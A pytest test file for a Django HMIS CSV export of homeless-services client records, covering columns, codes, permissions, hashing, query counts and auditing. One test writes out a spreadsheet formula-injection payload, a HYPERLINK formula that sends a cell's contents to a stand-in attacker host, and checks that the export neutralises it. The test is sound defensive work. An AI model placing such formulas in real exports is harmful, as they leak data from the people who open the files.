"""The HMIS CSV FY2026 export: files, columns, kinds, codes, privacy, hashing, hostile values, queries, audit."""

from __future__ import annotations

import datetime
import hashlib
import re

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from ancrage.core.models import AuditEntry
from ancrage.interop.hmis.columns import FILES, Kind
from ancrage.interop.hmis.export import services, writer
from ancrage.interop.hmis.export.files import exit as exit_file
from ancrage.interop.tests.export_helpers import add_person, build, read_zip
from ancrage.people import hmis_fy2026
from ancrage.people.models import Participant

pytestmark = pytest.mark.django_db

# A moment of no particular hour: the tests pass at any time of day.
MOMENT = datetime.datetime(2026, 3, 14, 23, 30, tzinfo=datetime.UTC)

DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
DATETIME = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$")
INTEGER = re.compile(r"^-?\d+$")
HEX64 = re.compile(r"^[0-9a-f]{64}$")
# HMIS 3.12 Destination (FY2026 Data Dictionary), whole.
DESTINATION_3_12 = {
    8, 9, 17, 24, 30, 99, 101, 116, 118, 204, 205, 206, 207, 215, 225, 302, 312, 313, 314, 327, 329, 332,
    410, 411, 421, 422, 423, 426, 435,
}  # fmt: skip
# HMIS 3.12.A RentalSubsidyType (FY2026 Data Dictionary), whole.
RENTAL_SUBSIDY_3_12_A = {428, 419, 431, 433, 434, 420, 436, 437, 438, 439, 440}


@pytest.fixture(autouse=True)
def _pinned_clock():
    with time_machine.travel(MOMENT, tick=False):
        yield


@pytest.fixture
def w(org_a, org_b, case_manager_a, case_manager_b):
    return build(org_a, org_b, case_manager_a, case_manager_b)


def export(w, *, hashed=False, programs=None, user=None) -> tuple[services.ExportStream, dict]:
    stream = services.hmis_export(
        actor=user or w["coordinator"],
        start=w["start"],
        end=w["end"],
        program_ids=programs or [w["program_a"].pk, w["program_b"].pk],
        hashed=hashed,
    )
    return stream, read_zip(b"".join(stream.chunks()))


def ids(rows, column="PersonalID") -> set[str]:
    return {row[column] for row in rows}


def test_every_file_is_there_with_its_header_in_the_specifications_order(w):
    _stream, files = export(w)
    assert {name for name in files if not name.startswith("header:")} == set(FILES)
    for name, columns in FILES.items():
        assert files["header:" + name] == [c.name for c in columns], name
    # Files with no data still come, header only.
    assert files["Funder"] == []
    assert files["Services"] == []


def test_each_column_holds_its_kind_and_required_columns_are_filled(w):
    _stream, files = export(w)
    checked = 0
    for name, columns in FILES.items():
        for row in files[name]:
            for column in columns:
                value = row[column.name]
                if value == "":
                    assert column.nullable, f"{name}.{column.name} is empty"
                    continue
                checked += 1
                if column.kind is Kind.DATE:
                    assert DATE.match(value), (name, column.name, value)
                elif column.kind is Kind.DATETIME:
                    assert DATETIME.match(value), (name, column.name, value)
                elif column.kind is Kind.NUMBER:
                    assert INTEGER.match(value), (name, column.name, value)
    assert checked > 100
    assert {len(files[n]) for n in ("Export", "User")} == {1}


def test_codes_are_within_the_fy2026_lists(w):
    _stream, files = export(w)
    lists = hmis_fy2026
    for row in files["Client"]:
        assert int(row["NameDataQuality"]) in lists.NAME_DATA_QUALITY.keys
        assert int(row["DOBDataQuality"]) in lists.DOB_DATA_QUALITY.keys
        assert int(row["Sex"]) in lists.SEX.keys
        for column in ("AmIndAKNative", "Asian", "BlackAfAmerican", "White", "NativeHIPacific"):
            assert int(row[column]) in lists.NO_YES_MISSING.keys
        if row["RaceNone"]:
            assert int(row["RaceNone"]) in lists.RACE_NONE.keys
    for row in files["Enrollment"]:
        assert int(row["RelationshipToHoH"]) in lists.RELATIONSHIP_TO_HOH.keys
        assert int(row["LivingSituation"]) in lists.PRIOR_LIVING_SITUATION.keys
        assert int(row["DisablingCondition"]) in lists.NO_YES_REASONS_FOR_MISSING_DATA.keys
    assert files["Exit"]
    for row in files["Exit"]:
        assert int(row["Destination"]) in DESTINATION_3_12
        if row["DestinationSubsidyType"]:
            assert int(row["DestinationSubsidyType"]) in RENTAL_SUBSIDY_3_12_A
    # Every destination the registry can record maps into the list.
    for code, subsidy in exit_file.DESTINATION.values():
        assert code in DESTINATION_3_12
        assert subsidy is None or subsidy in RENTAL_SUBSIDY_3_12_A


def test_the_registry_s_values_and_its_missing_answers_are_carried_over(w):
    _stream, files = export(w)
    clients = {row["PersonalID"]: row for row in files["Client"]}
    housed, left = clients[str(w["housed"].pk)], clients[str(w["left"].pk)]
    assert (housed["FirstName"], housed["LastName"], housed["DOB"]) == ("Éloïse", "Gagnon", "1975-04-12")
    assert housed["AmIndAKNative"] == "1"
    assert housed["RaceNone"] == ""
    # Prefers not to answer (gender) is 9; never-asked race and sex are 99.
    assert left["Sex"] == "9"
    assert left["RaceNone"] == "99"
    assert housed["Sex"] == "99"
    enrollments = {row["EnrollmentID"]: row for row in files["Enrollment"]}
    housed_enrollment = enrollments[str(w["housed_enrollment"].pk)]
    assert housed_enrollment["MoveInDate"] == (w["end"] - datetime.timedelta(days=150)).isoformat()
    assert housed_enrollment["HouseholdID"] == f"H{w['housed_enrollment'].pk}"
    (exit_row,) = files["Exit"]
    assert exit_row["EnrollmentID"] == str(w["left_enrollment"].pk)
    assert (exit_row["Destination"], exit_row["DestinationSubsidyType"]) == ("435", "434")
    (export_row,) = files["Export"]
    assert export_row["HashStatus"] == "1"
    assert export_row["ExportStartDate"] == w["start"].isoformat()
    assert {row["ProjectID"] for row in files["Project"]} == {str(w["program_a"].pk), str(w["program_b"].pk)}
    # Every record points at the one user of User.csv, every enrollment at a client and a project.
    (user_row,) = files["User"]
    assert {row["UserID"] for name in ("Client", "Enrollment", "Exit", "Project") for row in files[name]} == {
        user_row["UserID"]
    }
    assert ids(files["Enrollment"]) <= ids(files["Client"])
    assert {r["ProjectID"] for r in files["Enrollment"]} <= {r["ProjectID"] for r in files["Project"]}


def test_only_the_people_the_requester_may_see_and_only_what_they_may_read(w):
    _stream, files = export(w)
    clients = ids(files["Client"])
    assert str(w["secret"].pk) not in clients
    assert str(w["secret"].pk) not in ids(files["Enrollment"])
    # Outside the period: not exported.
    assert str(w["before"].pk) not in clients
    assert clients == {str(w["housed"].pk), str(w["left"].pk), str(w["shared"].pk)}
    # Identity shared, housing not: enrolled, but the move-in date stays empty.
    (shared_enrollment,) = [r for r in files["Enrollment"] if r["PersonalID"] == str(w["shared"].pk)]
    assert shared_enrollment["MoveInDate"] == ""


def test_someone_without_the_permission_or_another_consortium_s_program_is_refused(w, case_manager_a):
    with pytest.raises(services.ExportRefusedError):
        export(w, user=case_manager_a)
    from ancrage.people.tests.factories import ConsortiumFactory, OrganisationFactory, ProgramFactory

    elsewhere = ProgramFactory(
        organisation=OrganisationFactory(consortium=ConsortiumFactory(name="Ailleurs"))
    )
    before = AuditEntry.objects.count()
    with pytest.raises(services.ExportRefusedError):
        export(w, programs=[w["program_a"].pk, elsewhere.pk])
    assert AuditEntry.objects.count() == before


@pytest.mark.parametrize(
    ("start", "end"),
    [
        (datetime.date(2026, 3, 1), datetime.date(2026, 2, 1)),
        (datetime.date(1, 1, 1), datetime.date(2026, 1, 1)),
        (datetime.date(2026, 1, 1), datetime.date(9999, 12, 31)),
    ],
)
def test_an_impossible_period_is_refused_in_words(w, start, end):
    with pytest.raises(services.ExportRefusedError) as refused:
        services.hmis_export(actor=w["coordinator"], start=start, end=end, program_ids=[w["program_a"].pk])
    assert str(refused.value)


def _soundex_digest(code: str) -> str:
    return hashlib.sha256(code.encode()).hexdigest()


def test_hashed_mode_writes_sha256_of_the_soundex_of_names_and_of_birth_dates(w):
    _stream, files = export(w, hashed=True)
    (export_row,) = files["Export"]
    assert export_row["HashStatus"] == "4"
    clients = {row["PersonalID"]: row for row in files["Client"]}
    housed = clients[str(w["housed"].pk)]
    # Soundex of Eloise is E420, of Gagnon G255 (accents removed first).
    assert housed["FirstName"] == _soundex_digest("E420")
    assert housed["LastName"] == _soundex_digest("G255")
    assert housed["DOB"] == hashlib.sha256(b"1975-04-12").hexdigest()
    for row in clients.values():
        assert HEX64.match(row["FirstName"])
        assert HEX64.match(row["LastName"])
        assert "Gagnon" not in row.values()
        assert "Éloïse" not in row.values()


def test_hostile_names_and_edge_dates_are_written_safely(w, case_manager_a, org_a):
    hostile = add_person(
        case_manager_a, org_a, w["program_a"], legal_first_name="Jean", legal_last_name="Formule"
    )
    # The longest name the registry stores (PostgreSQL refuses more; the writer's own test takes 10,000).
    long_name = "L" * Participant._meta.get_field("legal_last_name").max_length
    Participant.objects.filter(pk=hostile.pk).update(
        legal_first_name='=HYPERLINK("http://evil.example/?x="&A3,"Voir")',
        legal_last_name=long_name,
        date_of_birth=datetime.date(1, 1, 1),
    )
    edge = add_person(case_manager_a, org_a, w["program_a"], legal_first_name="Max", legal_last_name="Date")
    Participant.objects.filter(pk=edge.pk).update(date_of_birth=datetime.date(9999, 12, 31))
    _stream, files = export(w)
    clients = {row["PersonalID"]: row for row in files["Client"]}
    row = clients[str(hostile.pk)]
    assert row["FirstName"] == "'" + '=HYPERLINK("http://evil.example/?x="&A3,"Voir")'
    assert row["LastName"] == long_name
    assert row["DOB"] == "0001-01-01"
    assert clients[str(edge.pk)]["DOB"] == "9999-12-31"


def test_a_nul_byte_or_a_control_character_never_reaches_the_file():
    lines = list(
        writer.file_lines(
            "Organization",
            [
                {
                    "OrganizationID": "1",
                    "OrganizationName": "Mission\x00A\x07",
                    "OrganizationCommonName": "N" * 10_000,
                    "VictimServiceProvider": 0,
                    "DateCreated": datetime.datetime(1, 1, 1, tzinfo=datetime.UTC),
                    "DateUpdated": datetime.datetime(9999, 12, 31, 23, 59, tzinfo=datetime.UTC),
                    "UserID": "7",
                    "ExportID": "E",
                }
            ],
        )
    )
    assert "\x00" not in lines[1]
    assert "\x07" not in lines[1]
    assert "Mission A " in lines[1]
    assert "N" * 10_000 in lines[1]
    # Written in Montréal time; a moment at the edge of the calendar is written as it is.
    assert "0001-01-01 00:00:00" in lines[1]
    assert "9999-12-31 18:59:00" in lines[1]


def test_a_mapping_that_leaves_a_required_column_empty_fails_loudly():
    with pytest.raises(writer.MissingValueError):
        list(writer.file_lines("Organization", [{"OrganizationID": "1"}]))
    with pytest.raises(KeyError):
        list(writer.file_lines("Organization", [{"NoSuchColumn": "1"}]))


def _count_queries(w) -> int:
    with CaptureQueriesContext(connection) as queries:
        stream = services.hmis_export(
            actor=w["coordinator"],
            start=w["start"],
            end=w["end"],
            program_ids=[w["program_a"].pk, w["program_b"].pk],
        )
        b"".join(stream.chunks())
    return len(queries.captured_queries)


def test_the_number_of_queries_does_not_grow_with_the_rows(
    w, case_manager_a, org_a, django_assert_max_num_queries
):
    _count_queries(w)  # the first export reads the user's memberships once; count a later one
    small = _count_queries(w)
    for n in range(15):
        add_person(case_manager_a, org_a, w["program_a"], legal_first_name=f"P{n}", legal_last_name="Lot")
    with django_assert_max_num_queries(small):
        stream = services.hmis_export(
            actor=w["coordinator"], start=w["start"], end=w["end"], program_ids=[w["program_a"].pk]
        )
        files = read_zip(b"".join(stream.chunks()))
    assert len(files["Client"]) == 17
    assert _count_queries(w) == small


def test_the_export_and_one_read_per_person_are_audited_in_one_statement(w):
    with CaptureQueriesContext(connection) as queries:
        stream, files = export(w)
    inserts = [
        q["sql"] for q in queries.captured_queries if "core_auditentry" in q["sql"] and "INSERT" in q["sql"]
    ]
    # The export's own entry, and one statement for every person in it.
    assert len(inserts) == 2, inserts
    reads = AuditEntry.objects.filter(action="interop.hmis_client.exported", actor=w["coordinator"])
    assert set(reads.values_list("participant_id", flat=True)) == {int(pk) for pk in ids(files["Client"])}
    assert all(entry.is_read for entry in reads)
    assert {entry.at for entry in reads} == {MOMENT}
    assert {entry.data["export_id"] for entry in reads} == {files["Export"][0]["ExportID"]}
    (entry,) = AuditEntry.objects.filter(action="interop.hmis_export.created")
    assert entry.data["rows"] == stream.people == 3
    assert entry.data["enrollments"] == stream.enrollments == 3
    assert entry.participant_id is None
